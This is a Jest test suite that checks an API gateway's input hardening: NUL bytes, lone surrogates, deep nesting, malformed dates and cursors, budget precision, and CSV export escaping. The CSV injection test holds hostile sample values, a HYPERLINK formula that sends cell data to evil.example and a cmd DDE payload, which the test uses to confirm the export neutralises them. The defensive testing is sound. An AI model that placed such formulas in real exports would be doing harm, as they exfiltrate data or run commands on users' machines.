import { DataSource } from 'typeorm';
import { createApiKey } from '../factories/api-key.factory.js';
import { chatRequest, imageRequest } from '../factories/request-body.factory.js';
import { createTeam } from '../factories/team.factory.js';
import { createTestApp, type TestApp } from '../utils/test-app.js';
import { waitFor } from '../utils/wait-for.js';

/**
 * Issue 11, items 2 (input side), 3, 5 and 8 (money): client input of any kind gets a 4xx in
 * OpenAI's shape naming the field, never a 500, and nothing PostgreSQL cannot store reaches it.
 */

const LOCAL = imageRequest({ prompt: 'input hardening' });
const CHAT = chatRequest({ content: 'a lighthouse' });
const NUL = '\u0000';
const LONE_SURROGATE = '\ud800';
const UUID = '5b0e4c59-6d8f-4d4b-9c35-0d4d1c7c3b0a';

interface ErrorBody {
  error: { message: string; type: string; param: string | null; code: string | null };
}

describe('Input hardening: 400 naming the field, never a 500, nothing unstorable stored', () => {
  let sut: TestApp;
  let key: string;
  let keyId: string;
  let dataSource: DataSource;

  const admin = (path: string, init: { method?: string; body?: unknown; headers?: Record<string, string> } = {}) =>
    sut.http(path, { key: sut.adminKey, ...init });

  /** A 400 invalid_request_error in OpenAI's shape, naming `param`. */
  async function expect400(response: Response, param: string | null): Promise<ErrorBody> {
    const text = await response.text();
    expect({ status: response.status, body: text.slice(0, 300) }).toEqual({ status: 400, body: expect.any(String) });
    const body = JSON.parse(text) as ErrorBody;
    expect(body).toEqual({
      error: { message: expect.any(String), type: 'invalid_request_error', param, code: expect.any(String) },
    });
    return body;
  }

  beforeAll(async () => {
    sut = await createTestApp({ env: { RATE_LIMIT_RPM: '1000000' } });
    ({ key, id: keyId } = await createApiKey(sut));
    dataSource = sut.app.get(DataSource);
  });

  afterAll(async () => {
    await sut?.close();
  });

  describe('text PostgreSQL cannot store (U+0000, lone UTF-16 surrogates)', () => {
    it.each([
      ['user', { ...LOCAL, user: `u${NUL}` }, 'user'],
      ['prompt', { ...LOCAL, prompt: `a${NUL}b` }, 'prompt'],
      ['a lone surrogate in prompt', { ...LOCAL, prompt: `a${LONE_SURROGATE}b` }, 'prompt'],
      ['a lone low surrogate in user', { ...LOCAL, user: '\udc00x' }, 'user'],
      ['model, even one that does not exist', { ...LOCAL, model: `no/such${NUL}model` }, 'model'],
      ['model, a lone surrogate', { ...LOCAL, model: `local/easel/sketch${LONE_SURROGATE}` }, 'model'],
      ['size', { ...LOCAL, size: NUL }, 'size'],
    ])('POST /v1/images/generations: %s', async (_what, body, param) => {
      await expect400(await sut.http('/v1/images/generations', { key, body }), param);
    });

    it.each([
      ['messages[0].content', chatRequest({ content: `x${NUL}` }), 'messages[0].content'],
      [
        'a text part',
        chatRequest({ content: [{ type: 'text', text: `x${LONE_SURROGATE}` }] }),
        'messages[0].content[0].text',
      ],
      ['a name', { ...CHAT, messages: [{ role: 'user', content: 'x', name: NUL }] }, 'messages[0].name'],
      ['user', { ...CHAT, user: NUL }, 'user'],
      ['model', { ...CHAT, model: NUL }, 'model'],
    ])('POST /v1/chat/completions: %s', async (_what, body, param) => {
      await expect400(await sut.http('/v1/chat/completions', { key, body }), param);
    });

    it('refuses a field name with a NUL without echoing the NUL', async () => {
      const body = await expect400(
        await sut.http('/v1/images/generations', { key, body: { ...LOCAL, [`col${NUL}our`]: 'red' } }),
        'col\ufffdour',
      );
      expect(body.error.message).not.toContain(NUL);
    });

    it.each([
      ['POST /admin/keys name', '/admin/keys', 'POST', { name: `k${NUL}`, team: 'default' }, 'name'],
      ['POST /admin/keys team', '/admin/keys', 'POST', { name: 'k', team: `default${NUL}` }, 'team'],
      [
        'POST /admin/keys allowed_models',
        '/admin/keys',
        'POST',
        { name: 'k', team: 'default', allowed_models: ['local/easel/sketch', `x${NUL}`] },
        'allowed_models[1]',
      ],
      ['POST /admin/teams name', '/admin/teams', 'POST', { name: `t${NUL}` }, 'name'],
      ['POST /admin/teams name (lone surrogate)', '/admin/teams', 'POST', { name: `t${LONE_SURROGATE}` }, 'name'],
      [
        'POST /admin/teams budget',
        '/admin/teams',
        'POST',
        { name: 't-nul', monthly_budget_usd: `1${NUL}` },
        'monthly_budget_usd',
      ],
    ])('%s', async (_what, path, method, body, param) => {
      await expect400(await admin(path, { method, body }), param);
    });

    it('PATCH /admin/keys/:id name', async () => {
      await expect400(await admin(`/admin/keys/${keyId}`, { method: 'PATCH', body: { name: `k${NUL}` } }), 'name');
    });

    it.each([
      ['/admin/usage?team=%00', 'team'],
      ['/admin/usage?model=x%00y', 'model'],
      ['/admin/usage?format=csv&team=%00', 'team'],
      ['/admin/usage/records?team=%00', 'team'],
      ['/admin/usage/records?model=%00', 'model'],
      ['/admin/usage/records?cursor=%00', 'cursor'],
    ])('GET %s', async (path, param) => {
      await expect400(await admin(path), param);
    });

    it('writes the usage records of every other request of a batch in which one request carried a NUL', async () => {
      const ids = ['nul-model', 'nul-user', 'clean-1', 'clean-2'];
      const bodies = [{ ...LOCAL, model: `nope${NUL}` }, { ...LOCAL, user: NUL }, LOCAL, LOCAL];
      const statuses = await Promise.all(
        ids.map(
          async (id, i) =>
            (await sut.http('/v1/images/generations', { key, body: bodies[i], headers: { 'x-request-id': id } }))
              .status,
        ),
      );
      expect(statuses).toEqual([400, 400, 200, 200]);

      const rows = await waitFor<
        Array<{ request_id: string; model: string | null; user: string | null; http_status: number }>
      >(
        () =>
          dataSource.query(
            `SELECT request_id, model, "user", http_status FROM usage_records WHERE request_id = ANY($1)`,
            [ids],
          ),
        (found) => found.length === ids.length,
      );
      const byId = Object.fromEntries(rows.map((row) => [row.request_id, row]));
      expect(byId['nul-model']).toMatchObject({ http_status: 400 });
      expect(byId['nul-user']).toMatchObject({ model: 'local/easel/sketch', http_status: 400 });
      expect(byId['clean-1']).toMatchObject({ model: 'local/easel/sketch', http_status: 200 });
      expect(byId['clean-2']).toMatchObject({ model: 'local/easel/sketch', http_status: 200 });
    });
  });

  describe('CSV exports neutralise formulas (OWASP CSV injection)', () => {
    it('writes a team name or model id that starts with =, +, -, @, tab or CR as a quoted text cell with a leading quote', async () => {
      const hostileTeam = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
      await createTeam(sut, { name: hostileTeam });
      const { key: teamKey } = await createApiKey(sut, { team: hostileTeam });
      const hostileModels = ["=cmd|' /C calc'!A0", '+1+1', '-2+3', '@SUM(A1)', '\tx', '\rx'];
      for (const [i, model] of hostileModels.entries()) {
        const response = await sut.http('/v1/images/generations', {
          key: teamKey,
          body: { ...LOCAL, model },
          headers: { 'x-request-id': `csv-${i}` },
        });
        expect(response.status).toBe(404);
      }
      await waitFor(
        async () =>
          Number(
            (await dataSource.query(`SELECT count(*) AS n FROM usage_records WHERE request_id LIKE 'csv-%'`))[0].n,
          ),
        (n) => n === hostileModels.length,
      );

      const byTeam = await (await admin('/admin/usage?group_by=team&format=csv')).text();
      expect(byTeam).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",6,6,0,0,0,0\n`);

      const byModel = await (
        await admin(`/admin/usage?group_by=model&team=${encodeURIComponent(hostileTeam)}`, {
          headers: { accept: 'text/csv' },
        })
      ).text();
      const lines = byModel.split('\n');
      expect(lines).toEqual(
        expect.arrayContaining([
          `"'=cmd|' /C calc'!A0",1,1,0,0,0,0`,
          `"'+1+1",1,1,0,0,0,0`,
          `"'-2+3",1,1,0,0,0,0`,
          `"'@SUM(A1)",1,1,0,0,0,0`,
        ]),
      );
      expect(byModel).toContain(`"'\tx",1,1,0,0,0,0\n`);
      expect(byModel).toContain(`"'\rx",1,1,0,0,0,0\n`);
      // No line starts a cell with a formula character.
      for (const line of lines) expect(line).not.toMatch(/(^|,)[=+\-@\t\r]/);

      // JSON keeps the values as they are.
      const json = (await (await admin('/admin/usage?group_by=team')).json()) as { rows: Array<{ group: string }> };
      expect(json.rows.map((row) => row.group)).toContain(hostileTeam);
    });
  });

  describe('no 500 for client input', () => {
    const nested = (depth: number, leaf: string) => '['.repeat(depth) + leaf + ']'.repeat(depth);
    const nestedObject = (depth: number) => '{"a":'.repeat(depth) + '1' + '}'.repeat(depth);

    it.each([
      ['an unknown field', `{"model":"local/easel/sketch","prompt":"x","deep":${nested(2000, '1')}}`],
      ['an unknown field (objects)', `{"model":"local/easel/sketch","prompt":"x","deep":${nestedObject(2000)}}`],
      ['prompt', `{"model":"local/easel/sketch","prompt":${nested(2000, '"x"')}}`],
    ])('answers a body nested 2,000 deep in %s with a 400', async (_what, body) => {
      const response = await sut.http('/v1/images/generations', { key, body });
      expect(response.status).toBe(400);
      expect(((await response.json()) as ErrorBody).error.type).toBe('invalid_request_error');
    });

    it.each([
      [
        '/v1/images/generations',
        `{"model":"local/easel/sketch","prompt":"x","extra":${nested(50, '1')}}`,
        `extra${'[0]'.repeat(31)}`,
      ],
      [
        '/admin/keys',
        `{"name":"k","team":"default","allowed_models":${nested(40, '"x"')}}`,
        `allowed_models${'[0]'.repeat(31)}`,
      ],
    ])('names the field of a body nested deeper than 32 levels on %s', async (path, body, param) => {
      const error = await expect400(
        await sut.http(path, { key: path.startsWith('/admin') ? sut.adminKey : key, body }),
        param,
      );
      expect(error.error.message).toContain('nested too deeply');
    });

    it.each([
      ['/admin/keys', (depth: string) => `{"name":"k","team":"default","allowed_models":${depth}}`],
      ['/admin/teams', (depth: string) => `{"name":${depth}}`],
      [
        '/v1/chat/completions',
        (depth: string) => `{"model":"local/easel/sketch","messages":[{"role":"user","content":${depth}}]}`,
      ],
    ])('answers a body nested 2,000 deep on %s with a 400', async (path, body) => {
      const response = await sut.http(path, {
        key: path.startsWith('/admin') ? sut.adminKey : key,
        body: body(nested(2000, '"x"')),
      });
      expect(response.status).toBe(400);
    });

    it('renders a prompt full of control characters on the local model', async () => {
      const prompt = `bell\u0007 esc\u001b[31m red\u0001\u0002\u0003\u000b\u000c\u007f\u0085 \ufffe\uffff tab\tnew\nline 😀`;
      const images = await sut.http('/v1/images/generations', { key, body: { ...LOCAL, prompt } });
      expect(images.status).toBe(200);
      const chat = await sut.http('/v1/chat/completions', { key, body: chatRequest({ content: prompt }) });
      expect(chat.status).toBe(200);
    });

    it('renders a prompt whose line wrap falls inside an emoji', async () => {
      const prompt = `${'x'.repeat(30)}${'😀'.repeat(400)}`;
      for (const size of ['256x256', '1024x1024']) {
        expect((await sut.http('/v1/images/generations', { key, body: { ...LOCAL, size, prompt } })).status).toBe(200);
      }
    });

    it('answers a chat whose caption would cut an emoji in two, with an Idempotency-Key (stored as jsonb)', async () => {
      const body = chatRequest({ content: `${'x'.repeat(78)}${'🦦'.repeat(10)}` });
      const first = await sut.http('/v1/chat/completions', {
        key,
        body,
        headers: { 'idempotency-key': 'emoji-caption' },
      });
      expect(first.status).toBe(200);
      const caption = ((await first.json()) as { choices: Array<{ message: { content: string } }> }).choices[0]!.message
        .content;
      expect(caption.isWellFormed()).toBe(true);
      const again = await sut.http('/v1/chat/completions', {
        key,
        body,
        headers: { 'idempotency-key': 'emoji-caption' },
      });
      expect(again.status).toBe(200);
      expect(again.headers.get('idempotent-replayed')).toBe('true');
    });

    it.each([
      ['a team', '/admin/teams', 'POST', { name: 'big-budget', monthly_budget_usd: '123456789' }],
      ['a key', '/admin/keys', 'POST', { name: 'k', team: 'default', monthly_budget_usd: '123456789' }],
      ['a key, as a number', '/admin/keys', 'POST', { name: 'k', team: 'default', monthly_budget_usd: 123456789 }],
    ])('refuses a budget of 9 integer digits for %s (the column holds 8)', async (_what, path, method, body) => {
      const error = await expect400(await admin(path, { method, body }), 'monthly_budget_usd');
      expect(error.error.message).toMatch(/8 digits/);
    });

    it('takes the largest budget the column holds', async () => {
      const response = await admin('/admin/teams', {
        body: { name: 'max-budget', monthly_budget_usd: '99999999.999999999999' },
      });
      expect(response.status).toBe(201);
      expect(await response.json()).toMatchObject({ monthly_budget_usd: '99999999.999999999999' });
    });

    it('refuses a price whose cost could not be stored (more than 6 integer digits)', async () => {
      const path = `/admin/pricing/${encodeURIComponent('local/easel/sketch')}`;
      await expect400(await admin(path, { method: 'PUT', body: { per_image: '999999999' } }), 'per_image');
      await expect400(
        await admin(path, { method: 'PUT', body: { per_million_tokens: { output_image: '1000000' } } }),
        'per_million_tokens.output_image',
      );
    });

    it.each([
      '-271821-04-20T00:00:00Z',
      '+275760-09-13T00:00:00Z',
      '0000-01-01T00:00:00Z',
      '1969-12-31T23:59:59Z',
      '10000-01-01T00:00:00Z',
    ])('refuses the date %s with a 400 naming the field', async (date) => {
      await expect400(
        await admin('/admin/keys', { body: { name: 'k', team: 'default', expires_at: date } }),
        'expires_at',
      );
      await expect400(
        await admin(`/admin/keys/${keyId}`, { method: 'PATCH', body: { expires_at: date } }),
        'expires_at',
      );
      await expect400(await admin(`/admin/usage?from=${encodeURIComponent(date)}`), 'from');
      await expect400(await admin(`/admin/usage/records?to=${encodeURIComponent(date)}`), 'to');
    });

    it.each([
      ['2026-02-30T00:00:00Z'],
      ['2026-13-01'],
      ['1'],
      ['2026'],
      ['March 7, 2026'],
      ['2026-01-01T25:00:00Z'],
      ['2026-01-01T00:00:00+25:00'],
    ])('refuses %s, which is not an ISO 8601 date-time', async (date) => {
      await expect400(await admin(`/admin/usage?from=${encodeURIComponent(date)}`), 'from');
    });

    it.each([true, 0, 1_700_000_000_000, [], {}])('refuses expires_at: %p (not a date-time string)', async (value) => {
      await expect400(
        await admin('/admin/keys', { body: { name: 'k', team: 'default', expires_at: value } }),
        'expires_at',
      );
    });

    it('takes ISO 8601 dates and date-times with an offset, and a date-time without one as UTC', async () => {
      const report = (await (await admin('/admin/usage?from=2026-01-01&to=2026-02-01T00:00:00%2B01:00')).json()) as {
        from: string;
        to: string;
      };
      expect(report).toMatchObject({ from: '2026-01-01T00:00:00.000Z', to: '2026-01-31T23:00:00.000Z' });
      const local = (await (await admin('/admin/usage?from=2026-01-01T00:00:00&to=2026-01-02T00:00:00.5')).json()) as {
        from: string;
        to: string;
      };
      expect(local).toMatchObject({ from: '2026-01-01T00:00:00.000Z', to: '2026-01-02T00:00:00.500Z' });
      const created = await admin('/admin/keys', {
        body: { name: 'k', team: 'default', expires_at: '9999-12-31T23:59:59Z' },
      });
      expect(created.status).toBe(201);
      expect(await created.json()).toMatchObject({ expires_at: '9999-12-31T23:59:59.000Z' });
    });

    it.each([
      ['36 dashes', '-'.repeat(36)],
      [
        'an encoded cursor whose id is 36 dashes',
        Buffer.from(`2026-01-01T00:00:00.000Z|${'-'.repeat(36)}`).toString('base64url'),
      ],
      ['an encoded cursor from year 275760', Buffer.from(`+275760-09-13T00:00:00.000Z|${UUID}`).toString('base64url')],
      ['an encoded cursor with a NUL', Buffer.from(`2026-01-01T00:00:00.000Z|${UUID}\u0000`).toString('base64url')],
      ['a very long cursor', 'A'.repeat(5000)],
    ])('refuses a cursor of %s with a 400 naming cursor', async (_what, cursor) => {
      await expect400(await admin(`/admin/usage/records?cursor=${encodeURIComponent(cursor)}`), 'cursor');
    });

    it.each([
      ['/admin/usage/records?limit=1e309', 'limit'],
      ['/admin/usage/records?limit=1e2', 'limit'],
      ['/admin/usage/records?limit=0x10', 'limit'],
      ['/admin/usage/records?limit=%20', 'limit'],
      ['/admin/usage/records?limit=-1', 'limit'],
      ['/admin/usage/records?limit=1.5', 'limit'],
      ['/admin/usage/records?limit=1&limit=2', 'limit'],
      ['/admin/usage?group_by=model&group_by=team', 'group_by'],
      ['/admin/usage?team=a&team=b', 'team'],
      [`/admin/usage?${'team=x&'.repeat(500)}`, 'team'],
      ['/admin/usage?from=2026-01-01&from=2026-01-02', 'from'],
      ['/admin/usage?format=csv&format=json', 'format'],
      ['/admin/usage?api_key=not-a-uuid', 'api_key'],
      ['/admin/usage?api_key=%00', 'api_key'],
      ['/admin/usage?group_by[]=team', 'group_by[]'],
      ['/admin/usage?from=2026-02-01&to=2026-01-01', 'from'],
    ])('GET %s: 400 naming the parameter', async (path, param) => {
      await expect400(await admin(path), param);
    });

    it.each([
      ['GET', '/admin/keys/not-a-uuid'],
      ['GET', '/admin/keys/%00'],
      ['PATCH', '/admin/keys/------------------------------------'],
      ['DELETE', '/admin/keys/00000000-0000-0000-0000-00000000000g'],
    ])('%s %s: 400 naming id', async (method, path) => {
      await expect400(await admin(path, { method, ...(method === 'PATCH' ? { body: { name: 'x' } } : {}) }), 'id');
    });

    it('answers concurrent creates of one team name with one 201 and 409s', async () => {
      const statuses = await Promise.all(
        Array.from({ length: 8 }, () =>
          admin('/admin/teams', { body: { name: 'race' } }).then((response) => response.status),
        ),
      );
      expect(statuses.sort()).toEqual([201, 409, 409, 409, 409, 409, 409, 409]);
    });

    it('refuses a price of null (a price cannot be cleared)', async () => {
      const path = `/admin/pricing/${encodeURIComponent('local/easel/sketch')}`;
      await expect400(await admin(path, { method: 'PUT', body: { per_image: null } }), 'per_image');
      await expect400(
        await admin(path, { method: 'PUT', body: { per_million_tokens: { input_text: null } } }),
        'per_million_tokens.input_text',
      );
    });

    it('answers a model path parameter with a NUL with a 4xx', async () => {
      const response = await admin('/admin/pricing/%00');
      expect(response.status).toBeGreaterThanOrEqual(400);
      expect(response.status).toBeLessThan(500);
    });
  });

  describe('money: JSON numbers and decimal strings, exactly', () => {
    it.each([
      [5, '5'],
      [5.1, '5.1'],
      [0.1, '0.1'],
      [0, '0'],
      [1e-7, '0.0000001'],
      [12.345678901234, '12.345678901234'],
      [99999999.99, '99999999.99'],
      ['250.50', '250.5'],
      ['0007', '7'],
    ])('takes monthly_budget_usd %p for a team as %p', async (value, stored) => {
      const name = `money-${String(value)}`;
      const response = await admin('/admin/teams', { body: { name, monthly_budget_usd: value } });
      expect(response.status).toBe(201);
      expect(await response.json()).toMatchObject({ monthly_budget_usd: stored });
      const [row] = (await dataSource.query('SELECT monthly_budget_usd::text AS v FROM teams WHERE name = $1', [
        name,
      ])) as Array<{ v: string }>;
      expect(row!.v.replace(/0+$/, '').replace(/\.$/, '')).toBe(stored);
    });

    it.each([
      [1e-13, 'decimals'],
      [0.1234567890123, 'decimals'],
      [1e21, 'digits'],
      [-1, 'negative'],
      [-0.5, 'negative'],
      ['1e3', 'decimal'],
      ['-1', 'negative'],
      ['1.', 'decimal'],
      ['.5', 'decimal'],
      [' 5', 'decimal'],
      ['5,0', 'decimal'],
      ['', 'decimal'],
      [true, 'decimal'],
      [[5], 'decimal'],
      [{ amount: 5 }, 'decimal'],
    ])('refuses monthly_budget_usd %p', async (value, says) => {
      const error = await expect400(
        await admin('/admin/teams', { body: { name: 'money-bad', monthly_budget_usd: value } }),
        'monthly_budget_usd',
      );
      expect(error.error.message).toMatch(new RegExp(says));
    });

    it('takes numbers for a key budget on create and PATCH, and answers decimal strings', async () => {
      const created = await admin('/admin/keys', { body: { name: 'k', team: 'default', monthly_budget_usd: 12.5 } });
      expect(created.status).toBe(201);
      const { id } = (await created.json()) as { id: string; monthly_budget_usd: string };
      const patched = await admin(`/admin/keys/${id}`, { method: 'PATCH', body: { monthly_budget_usd: 0.03 } });
      expect(patched.status).toBe(200);
      expect(await patched.json()).toMatchObject({ monthly_budget_usd: '0.03' });
      const cleared = await admin(`/admin/keys/${id}`, { method: 'PATCH', body: { monthly_budget_usd: null } });
      expect(await cleared.json()).toMatchObject({ monthly_budget_usd: null });
    });

    it('takes numbers for prices, exactly, and refuses more decimals than the price column holds', async () => {
      const path = `/admin/pricing/${encodeURIComponent('local/easel/sketch')}`;
      const set = await admin(path, {
        method: 'PUT',
        body: { per_image: 0.04, per_million_tokens: { input_text: 5, output_image: 39.999999 } },
      });
      expect(set.status).toBe(200);
      expect(await set.json()).toMatchObject({
        per_image: '0.04',
        per_million_tokens: { input_text: '5', output_image: '39.999999' },
      });
      await expect400(await admin(path, { method: 'PUT', body: { per_image: 0.0000001 } }), 'per_image');
      await expect400(
        await admin(path, { method: 'PUT', body: { per_million_tokens: { input_text: 1.1234567 } } }),
        'per_million_tokens.input_text',
      );
      // Back to free, so the other tests' requests cost nothing.
      expect(
        (
          await admin(path, {
            method: 'PUT',
            body: { per_image: 0, per_million_tokens: { input_text: 0, output_image: 0 } },
          })
        ).status,
      ).toBe(200);
    });

    it('documents money fields as a decimal string or a JSON number', async () => {
      const document = (await (await sut.http('/docs-json')).json()) as {
        components: { schemas: Record<string, { properties: Record<string, Record<string, unknown>> }> };
      };
      const budget = document.components.schemas.CreateTeamDto!.properties.monthly_budget_usd!;
      expect(budget.oneOf).toEqual([
        expect.objectContaining({ type: 'string' }),
        expect.objectContaining({ type: 'number' }),
      ]);
      expect(budget.type).toBeUndefined();
    });
  });
});
